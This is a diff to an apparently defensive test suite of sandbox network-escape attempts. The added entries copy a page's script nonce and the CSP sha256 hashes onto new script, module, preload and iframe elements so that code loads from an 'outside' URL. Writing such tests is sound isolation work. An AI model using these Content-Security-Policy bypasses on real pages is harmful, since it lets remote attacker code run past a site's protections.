@@ -7,6 +7,10 @@ const link = (rel: string, more = '') =>
   `const link = document.createElement('link'); link.rel = '${rel}'; ${more} link.href = outside + 'link'; document.head.append(link);`;
 const peer = (server: string, made = 'RTCPeerConnection') =>
   `const peer = new ${made}({ iceServers: [${server}], iceTransportPolicy: 'all' }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await new Promise((resolve) => setTimeout(resolve, 700));`;
+/** What lets a script pass the policies of the document, all of which can be read there: `nonce`, and `integrity`. */
+const passes = `const nonce = [...document.scripts].map((each) => each.nonce).find(Boolean) ?? ''; const integrity = [...(document.querySelector('meta[http-equiv]')?.content ?? '').matchAll(/sha256-[^']+/g)].join(' ');`;
+const passing = (element: string) =>
+  `${passes} const element = document.createElement('${element}'); element.nonce = nonce; element.integrity = integrity; element.crossOrigin = 'anonymous';`;
 const child = (script: string) =>
   `const frame = document.createElement('iframe'); frame.srcdoc = '<script>' + ${script} + '</scr' + 'ipt>'; root.append(frame);`;
 
@@ -131,6 +135,36 @@ export const windowNetwork: readonly WindowAttempt[] = [
     id: 'script',
     name: 'a script by URL',
     code: `const script = document.createElement('script'); script.src = outside + 'x.js'; document.head.append(script);`,
+    control: 'request',
+  },
+  {
+    id: 'scriptPassing',
+    name: 'a script by URL, with the nonce and the hashes that the policies name',
+    code: `${passing('script')} element.src = outside + 'x'; document.head.append(element);`,
+    control: 'request',
+  },
+  {
+    id: 'modulePassing',
+    name: 'a module by URL, with the nonce and the hashes that the policies name',
+    code: `${passing('script')} element.type = 'module'; element.src = outside + 'x'; document.head.append(element);`,
+    control: 'request',
+  },
+  {
+    id: 'preloadPassing',
+    name: 'a script fetched ahead, with the nonce and the hashes that the policies name',
+    code: `${passing('link')} element.rel = 'preload'; element.as = 'script'; element.href = outside + 'x'; document.head.append(element);`,
+    control: 'request',
+  },
+  {
+    id: 'modulepreloadPassing',
+    name: 'a module fetched ahead, with the nonce and the hashes that the policies name',
+    code: `${passing('link')} element.rel = 'modulepreload'; element.href = outside + 'x'; document.head.append(element);`,
+    control: 'request',
+  },
+  {
+    id: 'scriptPassingChild',
+    name: 'a script by URL in a frame of its own text, with the nonce and the hashes that the policies name',
+    code: `${passes} const frame = document.createElement('iframe'); frame.srcdoc = '<script nonce="' + nonce + '" integrity="' + integrity + '" crossorigin src="' + outside + 'x"></scr' + 'ipt>'; root.append(frame);`,
     control: 'request',
   },
   {
